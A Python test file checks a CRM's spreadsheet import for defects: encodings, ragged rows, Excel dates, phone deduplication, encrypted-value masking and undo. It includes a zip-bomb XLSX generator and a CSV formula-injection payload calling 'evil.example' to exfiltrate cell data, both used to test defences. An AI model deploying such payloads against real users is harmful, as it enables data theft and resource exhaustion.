"""Review of imports: defects a user would hit, one test each (the docstring names the defect).

Files (GB18030 with a byte order mark, rows with more values than the header, a header alone,
zip bombs, percent cells), cells (Excel's 1900 serials), duplicates (landlines with the country
code, a key two records share), the run (a run that failed before writing), encrypted values
kept by an import, the errors CSV and undo."""

from __future__ import annotations

import io
import json
import time
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from app.context import Context
from app.crypto import MASK
from app.fields import FieldValueError, registry
from app.imports import ImportOptions, SetupProblem, configure, start, undo, upload
from app.imports import run as import_run
from app.imports.dedupe import normalise
from app.imports.jobs import ImportJob, problems, report_csv
from app.imports.reader import FileProblem, inspect, read_rows
from app.meta.types import FieldDef
from app.migrate.publish import publish
from app.model.imports import import_rows
from app.records import Actor, Records
from tests.factories import meta_of
from tests.importkit import admin, csv_bytes, import_deployment, live, store, xlsx_bytes


@pytest.fixture
def ctx(tmp_path: Path, database_url: str) -> Iterator[Context]:
    made = import_deployment(tmp_path, database_url)
    try:
        yield made
    finally:
        made.dispose()


def imported(ctx: Context, who: Actor, header: list[str], rows: list[list[Any]], *,
             entity: str = "contact", dry_run: bool = False, **options: Any) -> ImportJob:
    rs = live(ctx, who)
    files = store(ctx)
    job = upload(rs, files, who, entity, "review.csv", csv_bytes(rows, header))
    configure(rs, files, who, job.id, job.fields, ImportOptions.from_json(options))
    return start(rs, files, who, job.id, dry_run=dry_run)


def table_rows(data: bytes, name: str) -> tuple[list[str], list[tuple[int, list[Any]]]]:
    stream = io.BytesIO(data)
    info = inspect(stream, name)
    return info.columns, list(read_rows(stream, name, info.kind, info.options(),
                                        len(info.columns)))


# --- files -------------------------------------------------------------------------------------
def test_gb18030_csv_with_a_byte_order_mark() -> None:
    """Defect: Chinese Excel's GB18030 CSV may start with GB18030's byte order mark; the codec
    kept it as U+FEFF in the first column's name, so `姓` was not matched to any field."""
    data = "\ufeff姓,Email\n张,zhang@example.cn\n".encode("gb18030")
    columns, rows = table_rows(data, "名单.csv")
    assert columns == ["姓", "Email"]
    assert rows == [(2, ["张", "zhang@example.cn"])]


def test_a_row_with_more_values_than_the_header_is_refused_whole(ctx: Context) -> None:
    """Defect: `Smith,John,VP, Sales` under a 3-column header (a comma without quotes) moved
    its values and the extra one was dropped silently; the row must fail, the others go in."""
    data = b"Last name,First name,Title\nSmith,John,VP, Sales\nLee,Ann,CEO\n"
    who = admin(ctx)
    rs = live(ctx, who)
    files = store(ctx)
    job = upload(rs, files, who, "contact", "ragged.csv", data)
    done = start(rs, files, who, job.id, dry_run=False)
    assert (done.created, done.failed) == (1, 1)
    [error] = problems(ctx.engine, done.id)
    assert error["row_number"] == 2 and error["column_name"] is None
    assert "4 values but the header has 3 columns" in error["message"]
    assert error["raw_value"] == "Sales"
    assert [r["last_name"] for r in _live_contacts(rs)] == ["Lee"]
    # a header cell left blank names a column: values under it are not "extra"
    _columns, rows = table_rows(b"Name,,Name,\nA,1,2,3\n", "x.csv")
    assert rows == [(2, ["A", "1", "2"])]


def test_a_file_with_only_a_header_is_refused_with_a_sentence() -> None:
    """Defect: a CSV file of a header without rows was taken as an import of nothing (a
    mapping page for 0 rows, a run that did nothing); say so at upload instead. (A workbook
    is not refused: another of its sheets may be the one to import.)"""
    with pytest.raises(FileProblem, match="has no rows under its header row") as caught:
        inspect(io.BytesIO(b"Last name,Email\n\n"), "header.csv")
    assert caught.value.status == 400
    assert inspect(io.BytesIO(xlsx_bytes([], ["Last name"])), "header.xlsx").total == 0


def zip_bomb(strings: int) -> bytes:
    """An XLSX whose shared strings part unpacks about 400 times its packed size."""
    book = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["x"]], ["Last name"])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in book.infolist():
            z.writestr(info, book.read(info.filename))
        with z.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                       b'spreadsheetml/2006/main">')
            for _ in range(strings // 1000):
                part.write(b"<si><t>a</t></si>" * 1000)
            part.write(b"</sst>")
    return out.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    """Defect: openpyxl reads an XLSX's shared strings whole, even in read-only mode; a
    128 KB upload unpacking to 51 MB took 24 s and 300 MB at upload (a few MB: gigabytes).
    The declared sizes are checked first."""
    bomb = zip_bomb(200_000)
    assert len(bomb) < 50_000
    began = time.monotonic()
    with pytest.raises(FileProblem, match="unpacks to far more data than a spreadsheet"):
        inspect(io.BytesIO(bomb), "bomb.xlsx")
    assert time.monotonic() - began < 2


def test_percent_cells_of_a_spreadsheet_keep_their_scale() -> None:
    """Defect: a cell showing 12% holds 0.12, so a percent field (which stores 12 for
    "12%") got 0.12%, and a plain number field took 0.12 silently."""
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.append(["Name", "Probability", "Amount"])
    ws.append(["Deal", 0.125, 5])
    ws["B2"].number_format = "0.0%"
    out = io.BytesIO()
    book.save(out)
    _columns, rows = table_rows(out.getvalue(), "deals.xlsx")
    assert rows == [(2, ["Deal", "12.5%", 5])]
    percent = FieldDef("probability", "percent")
    assert registry.get("percent").parse_cell(percent, rows[0][1][1]) == Decimal("12.5")
    with pytest.raises(FieldValueError, match="percent sign is not expected"):
        registry.get("decimal").parse_cell(FieldDef("amount", "decimal"), rows[0][1][1])


# --- cells and duplicates ---------------------------------------------------------------------
def test_excel_serials_before_march_1900() -> None:
    """Defect: Excel counts 1900-02-29 (serial 60, a day that never was), so serials 1-59 were
    read a day early (1 was 1899-12-31) and 60 was taken as 1900-02-28."""
    from openpyxl.utils.datetime import from_excel

    day = FieldDef("d", "date")
    parse = registry.get("date").parse_cell
    for serial in (1, 2, 31, 59, 61, 62, 45356):
        assert parse(day, serial) == from_excel(serial).date()
    assert parse(day, 1) == date(1900, 1, 1) and parse(day, 59) == date(1900, 2, 28)
    with pytest.raises(FieldValueError):
        parse(day, 60)
    moment = registry.get("datetime").parse_cell(FieldDef("m", "datetime"), 1.5)
    assert moment.replace(tzinfo=None) == datetime(1900, 1, 1, 12)


def test_landlines_with_the_country_code_are_duplicates_of_the_same_number() -> None:
    """Defect: `+86 10 1234 5678` normalised to 1012345678 and `010-12345678` to 01012345678
    (the trunk 0 a number written with the country code drops), so they were not duplicates;
    `(+86) 10 ...` kept its 86."""
    phone = FieldDef("phone", "phone")
    same = {normalise(phone, v) for v in ("+86 10 1234 5678", "010-12345678",
                                          "0086 10 12345678", "(+86) 10-1234-5678",
                                          "+86 (0)10 1234 5678")}
    assert same == {"01012345678"}
    assert normalise(phone, "+86 571 8888 8888") == normalise(phone, "0571-88888888")
    assert {normalise(phone, v) for v in ("+86 138 1234 5678", "8613812345678",
                                           "13812345678")} == {"13812345678"}


def test_a_key_two_records_share_updates_neither(ctx: Context) -> None:
    """Defect: upsert (and on_duplicate: update) by a value several records hold updated the
    oldest of them, a silent random pick; the row must fail naming them."""
    who = admin(ctx)
    rs = live(ctx, who)
    ids = [rs.create("contact", {"last_name": name, "email": email})["id"]
           for name, email in (("A", "same@example.com"), ("B", "same@example.com"),
                               ("C", "one@example.com"))]
    done = imported(ctx, who, ["Last name", "Email"], [["New", "same@example.com"],
                                                       ["Once", "one@example.com"]],
                    upsert_key="email")
    assert (done.updated, done.failed) == (1, 1)
    [error] = problems(ctx.engine, done.id)
    assert error["row_number"] == 2 and error["column_name"] == "Email"
    assert f"2 Contact records have this Email (#{ids[0]}, #{ids[1]})" in error["message"]
    assert [rs.get("contact", i)["last_name"] for i in ids] == ["A", "B", "Once"]
    again = imported(ctx, who, ["Last name", "Email"], [["Newer", " SAME@example.com "]],
                     dedupe="email", on_duplicate="update")
    assert (again.updated, again.failed) == (0, 1)
    assert [rs.get("contact", i)["last_name"] for i in ids[:2]] == ["A", "B"]
    skipped = imported(ctx, who, ["Last name", "Email"], [["Newest", "same@example.com"]],
                       dedupe="email")
    assert (skipped.skipped, skipped.failed, skipped.duplicates) == (1, 0, 1)


def test_two_rows_matching_one_record_update_it_once(ctx: Context) -> None:
    """Defect: with on_duplicate: update (and an upsert key), every row matching an existing
    record updated it, so it ended with whichever row came last, and undo then restored the
    last tag only ("changed since the import": by the import itself), leaving neither the old
    values nor the import's. A later row is a duplicate of the first, as docs/imports.md says."""
    who = admin(ctx)
    rs = live(ctx, who)
    made = rs.create("contact", {"last_name": "Old", "email": "same@example.com",
                                 "title": "Clerk"})
    header = ["Last name", "Email", "Title"]
    done = imported(ctx, who, header, [["First", "same@example.com", "Buyer"],
                                       ["Second", " SAME@example.com", "Boss"]],
                    dedupe="email", on_duplicate="update")
    assert (done.updated, done.skipped, done.duplicates) == (1, 1, 2)
    second = problems(ctx.engine, done.id, "duplicate")[1]
    assert second["row_number"] == 3 and second["message"] == "Same Email as row 2: skipped."
    assert rs.get("contact", made["id"])["title"] == "Buyer"
    undone = undo(rs, who, done.id)
    assert undone.undo_report == ["Undone: 0 record(s) deleted, 1 restored."]
    assert (rs.get("contact", made["id"])["last_name"], rs.get("contact", made["id"])["title"]
            ) == ("Old", "Clerk")
    upsert = imported(ctx, who, header, [["First", "same@example.com", "Buyer"],
                                         ["Second", "same@example.com", "Boss"]],
                      upsert_key="email")
    assert (upsert.updated, upsert.skipped) == (1, 1)
    assert rs.get("contact", made["id"])["title"] == "Buyer"


# --- the run, what it keeps, undo -------------------------------------------------------------
def test_a_run_that_failed_before_writing_is_not_taken_for_a_written_one(
        ctx: Context, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Defect: a run kept the dry run's counts until its first batch; when it failed before
    (the task ran after a config change removed a mapped field), the import looked written
    (created 1): it could not run again and offered an undo of nothing."""
    monkeypatch.setattr(import_run, "QUEUE_ABOVE", 0)  # every run goes to the task queue
    who = admin(ctx)
    rs = live(ctx, who)
    files = store(ctx)
    job = upload(rs, files, who, "contact", "c.csv", csv_bytes(
        [["Wang", "Sales"]], ["Last name", "Department"]))
    assert job.fields == {"Last name": "last_name", "Department": "department"}
    dry = start(rs, files, who, job.id, dry_run=True, queue=ctx.queue)
    assert (dry.status, dry.created) == ("validated", 1)
    contact = tmp_path / "schemas" / "contact.yaml"  # the department field is removed
    contact.write_text("\n".join(line.replace(" department,", "")
                                 for line in contact.read_text("utf-8").splitlines()
                                 if not line.lstrip().startswith("department:")), "utf-8")
    publish(ctx.engine, meta_of(tmp_path / "schemas"))  # the worker runs on this version
    failed = start(rs, files, who, job.id, dry_run=False, queue=ctx.queue)
    assert failed.status == "failed" and "Department" in failed.error_summary
    assert (failed.created, failed.processed, failed.written) == (0, 0, False)
    with pytest.raises(SetupProblem, match="Only an import that wrote records"):
        undo(rs, who, job.id)


def test_an_update_keeps_no_clear_text_of_encrypted_fields(ctx: Context) -> None:
    """Defect: the tag of an updated record kept the earlier value of an encrypted field (the
    ID card number) in clear in sys_import_row, and a refused value stayed in clear in
    sys_import_error; the audit trail masks them. Undo still puts the old value back."""
    who = admin(ctx)
    rs = live(ctx, who)
    old_id, new_id, bad_id = "110101199003077777", "110101199003071234", "11010119900307123456"
    made = rs.create("contact", {"last_name": "Old", "email": "old@example.com",
                                 "id_number": old_id})
    done = imported(ctx, who, ["Last name", "Email", "ID card number"], [
        ["Old", "old@example.com", new_id], ["Bad", "bad@example.com", bad_id]],
        upsert_key="email")
    assert (done.updated, done.failed) == (1, 1)
    with ctx.engine.connect() as conn:
        tags = [dict(r._mapping) for r in conn.execute(sa.select(import_rows))]
        kept = json.dumps([t["before"] for t in tags]) + json.dumps(
            [list(r) for r in conn.execute(sa.text("select * from sys_import_error"))])
    assert old_id not in kept and bad_id not in kept and "11010119" not in kept
    [error] = problems(ctx.engine, done.id)
    assert error["raw_value"] == MASK and error["column_name"] == "ID card number"
    assert rs.get("contact", made["id"])["id_number"] == new_id
    undone = undo(rs, who, done.id)
    assert undone.undo_report[0] == "Undone: 0 record(s) deleted, 1 restored."
    assert rs.get("contact", made["id"])["id_number"] == old_id


def test_the_errors_csv_neutralises_formulas_in_column_names(ctx: Context) -> None:
    """Defect: values and messages were neutralised in the errors CSV, but not the column
    names, which come from the file's header: `=HYPERLINK(...)` ran in Excel."""
    who = admin(ctx)
    column = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rs = live(ctx, who)
    files = store(ctx)
    job = upload(rs, files, who, "contact", "f.csv", csv_bytes(
        [["Wang", "not-an-email"]], ["Last name", column]))
    configure(rs, files, who, job.id, {"Last name": "last_name", column: "email"},
              ImportOptions())
    done = start(rs, files, who, job.id, dry_run=True)
    assert done.failed == 1
    report = "".join(report_csv(ctx.engine, done.id))
    assert '"\'=HYPERLINK(""http' in report
    assert ',=HYPERLINK' not in report and ',"=HYPERLINK' not in report


def test_undo_names_the_records_users_changed_since_the_import(ctx: Context) -> None:
    """Defect: undo put the records an import created in the recycle bin without a word when
    users had worked on them since (records it updated are left alone and named); they go,
    as undo means, but the report names them so they can be restored."""
    who = admin(ctx)
    rs = live(ctx, who)
    done = imported(ctx, who, ["Last name", "Email"], [["Kept", "k@example.com"],
                                                       ["Worked", "w@example.com"]])
    worked = next(r for r in _live_contacts(rs) if r["last_name"] == "Worked")
    rs.update("contact", worked["id"], {"title": "Buyer"})
    undone = undo(rs, who, done.id)
    assert undone.undo_report[0] == "Undone: 2 record(s) deleted, 0 restored."
    assert undone.undo_report[1:] == [
        f"Row 3, Contact #{worked['id']}: it was changed since the import; it is in the "
        "recycle bin with those changes."]
    assert _live_contacts(rs) == []


def _live_contacts(rs: Records) -> list[dict[str, Any]]:
    table = rs.table("contact")
    with rs.engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(
            rs.full_select("contact").where(table.c.deleted_at.is_(None)))]
